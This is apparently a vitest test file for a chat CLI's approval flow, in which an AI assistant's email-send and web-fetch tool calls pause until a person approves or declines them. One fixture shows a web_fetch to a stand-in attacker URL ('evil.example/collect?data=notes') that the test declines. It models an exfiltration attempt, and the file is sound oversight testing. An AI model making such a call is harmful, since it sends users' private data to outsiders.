import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { LineInput } from '../../../local/cli/run-chat-command.ts';
import {
  type ChatScript,
  type ChatSseServer,
  type ReceivedChatRequest,
  startChatSseServer,
} from './support/chat-sse-server.ts';
import { fetchApproval, pausedTurnStream, resumedTurnStream, sendApproval, sentReply } from './support/paused-turn.ts';
import { conversationId } from './support/recovered-turn.ts';
import { runChat, typed } from './support/run-chat.ts';

const message = 'send the meeting notes to Bob';
let server: ChatSseServer;

/** Pauses on a message, resumes on answers. */
function pauseThenResume(request: ReceivedChatRequest): ChatScript {
  const answers = typeof request.body === 'object' && request.body !== null && 'approvals' in request.body;
  return { kind: 'events', events: answers ? resumedTurnStream : pausedTurnStream() };
}

function bodies(): unknown[] {
  return server.requests.map((request) => request.body);
}

/** A prompt that must not be opened. */
function noPrompt(): LineInput {
  throw new Error('the prompt was opened');
}

beforeAll(async () => {
  server = await startChatSseServer({ kind: 'events', events: resumedTurnStream });
});

afterAll(async () => {
  await server.close();
});

beforeEach(() => {
  server.requests.length = 0;
  server.respond = pauseThenResume;
});

describe('runChatCommand with approvals', () => {
  describe('when a turn waits for approval and stdin is a terminal', () => {
    it('shows the mail it would send and why, asks Approve? [y/N], sends the approval and shows the resumed turn', async () => {
      const input = typed(['y']);

      const result = await runChat(['--url', server.url, message], { isInputTerminal: true, openInput: () => input });

      expect(result.code).toBe(0);
      const lines = result.stdout.split('\n');
      expect(lines).toEqual(expect.arrayContaining([
        '⏸ gmail_send_email waits for your approval',
        '  `bob@example.com` does not appear in anything you wrote.',
        '  to        bob@example.com',
        '  cc        carol@example.com',
        '  subject   Meeting notes',
        '  body',
        '    Hi Bob,',
        '    Here are the notes.',
        sentReply,
      ]));
      expect(result.stdout).toMatch(/0 tool attempts · 0 retries · 1 call awaits approval · model demo:parley-demo/);
      expect(input.questions).toEqual(['Approve? [y/N] ']);
      expect(bodies()).toEqual([
        { message },
        { conversationId, approvals: [{ id: sendApproval.id, approved: true }] },
      ]);
      expect(result.stdout.indexOf(sentReply)).toBeGreaterThan(result.stdout.indexOf('waits for your approval'));
      expect(input.closed).toBe(true);
    });

    it("asks why when the user declines, and sends the user's reason", async () => {
      const input = typed(['n', 'Not Bob, he left']);

      await runChat(['--url', server.url, message], { isInputTerminal: true, openInput: () => input });

      expect(input.questions).toEqual(['Approve? [y/N] ', 'Why not? (optional, told to the assistant) ']);
      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: false, reason: 'Not Bob, he left' }],
      });
    });

    it('takes an empty answer as no, and an empty reason as none', async () => {
      await runChat(['--url', server.url, message], { isInputTerminal: true, openInput: () => typed(['', '']) });

      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: false }],
      });
    });

    it('asks again after an answer that is neither y nor n', async () => {
      const input = typed(['maybe', 'yes']);

      const result = await runChat(['--url', server.url, message], { isInputTerminal: true, openInput: () => input });

      expect(result.stdout).toContain('Answer y or n.');
      expect(input.questions).toEqual(['Approve? [y/N] ', 'Approve? [y/N] ']);
      expect(server.requests[1]?.body).toMatchObject({ approvals: [{ approved: true }] });
    });

    it('asks each approval of the turn in turn, naming the tool, and answers them in one request', async () => {
      server.respond = (request) =>
        'approvals' in (request.body as object)
          ? { kind: 'events', events: resumedTurnStream }
          : { kind: 'events', events: pausedTurnStream([sendApproval, fetchApproval]) };
      const input = typed(['y', 'n', '']);

      const result = await runChat(['--url', server.url, message], { isInputTerminal: true, openInput: () => input });

      expect(result.stdout).toContain('    https://evil.example/collect?data=notes');
      expect(input.questions).toEqual([
        'Approve gmail_send_email (1 of 2)? [y/N] ',
        'Approve web_fetch (2 of 2)? [y/N] ',
        'Why not? (optional, told to the assistant) ',
      ]);
      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: true }, { id: fetchApproval.id, approved: false }],
      });
    });

    it('leaves the turn paused when the input ends before an answer', async () => {
      const result = await runChat(['--url', server.url, message], {
        isInputTerminal: true,
        openInput: () => typed([]),
      });

      expect(result.code).toBe(0);
      expect(result.stdout).toContain('Left unanswered: the turn stays paused (a new message closes it).');
      expect(bodies()).toEqual([{ message }]);
    });

    it('leaves the turn paused on Ctrl-C at the question', async () => {
      let interrupt = (): void => undefined;
      const waitsForAnswer: LineInput = {
        ...typed([]),
        ask: (_question, signal) =>
          new Promise((resolve) => {
            signal?.addEventListener('abort', () => resolve(null));
            interrupt();
          }),
      };

      const result = await runChat(['--url', server.url, message], {
        isInputTerminal: true,
        openInput: () => waitsForAnswer,
        onInterrupt: (listener) => {
          interrupt = listener;
        },
      });

      expect(result.stdout).toContain('Left unanswered');
      expect(bodies()).toEqual([{ message }]);
    });

    it('says so when the answer is refused, and exits with 1', async () => {
      server.respond = (request) =>
        'approvals' in (request.body as object)
          ? {
            kind: 'status',
            status: 410,
            body: { error: { code: 'approval_expired', message: 'The approval expired.', requestId: 'req_410' } },
          }
          : { kind: 'events', events: pausedTurnStream() };

      const result = await runChat(['--url', server.url, message], {
        isInputTerminal: true,
        openInput: () => typed(['y']),
      });

      expect(result.code).toBe(1);
      expect(result.stderr).toBe(
        'The chat function answered 410 (approval_expired): The approval expired. (request id req_410)\n',
      );
    });
  });

  describe('when stdin is not a terminal', () => {
    it('declines without asking and says why, so a script never hangs', async () => {
      const result = await runChat(['--url', server.url, message], { openInput: noPrompt });

      expect(result.code).toBe(0);
      expect(result.stdout).toContain(
        'Declined gmail_send_email: nobody can answer here (stdin is not a terminal, or --json): run in a terminal to be asked, or pass --approve.',
      );
      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: false }],
      });
    });

    it('approves with --approve', async () => {
      const result = await runChat(['--url', server.url, '--approve', message], { openInput: noPrompt });

      expect(result.stdout).toContain('Approved gmail_send_email: --approve.');
      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: true }],
      });
      expect(result.stdout).toContain(sentReply);
    });
  });

  describe('when --deny is given in a terminal', () => {
    it('declines without asking', async () => {
      const result = await runChat(['--url', server.url, '--deny', message], {
        isInputTerminal: true,
        openInput: noPrompt,
      });

      expect(result.stdout).toContain('Declined gmail_send_email: --deny.');
      expect(server.requests[1]?.body).toMatchObject({ approvals: [{ approved: false }] });
    });
  });

  describe('when asked for --json', () => {
    it('keeps stdout to JSON lines: declines without asking, with the note on stderr', async () => {
      const result = await runChat(['--url', server.url, '--json', message], {
        isInputTerminal: true,
        openInput: noPrompt,
      });

      for (const line of result.stdout.trimEnd().split('\n')) expect(() => JSON.parse(line)).not.toThrow();
      expect(result.stderr).toContain('Declined gmail_send_email');
      expect(server.requests).toHaveLength(2);
    });
  });

  describe('when asked for --no-stream', () => {
    it('shows the approvals of the JSON reply and asks the same way', async () => {
      const input = typed(['y']);

      const result = await runChat(['--url', server.url, '--no-stream', message], {
        isInputTerminal: true,
        openInput: () => input,
      });

      expect(result.stdout).toContain('⏸ gmail_send_email waits for your approval');
      expect(input.questions).toEqual(['Approve? [y/N] ']);
      expect(server.requests[1]?.body).toEqual({
        conversationId,
        approvals: [{ id: sendApproval.id, approved: true }],
      });
    });
  });

  describe('when there is no message', () => {
    it('asks at the prompt, then goes on with the next message in the same conversation', async () => {
      const input = typed(['send the notes to Bob', 'y', 'thanks', '/quit']);
      server.respond = (request) =>
        (request.body as { message?: string }).message === 'thanks'
          ? { kind: 'events', events: resumedTurnStream }
          : pauseThenResume(request);

      const result = await runChat(['--url', server.url], { isInputTerminal: true, openInput: () => input });

      expect(result.code).toBe(0);
      expect(bodies()).toEqual([
        { message: 'send the notes to Bob' },
        { conversationId, approvals: [{ id: sendApproval.id, approved: true }] },
        { message: 'thanks', conversationId },
      ]);
      expect(input.questions).toEqual(['Approve? [y/N] ']);
    });
  });
});
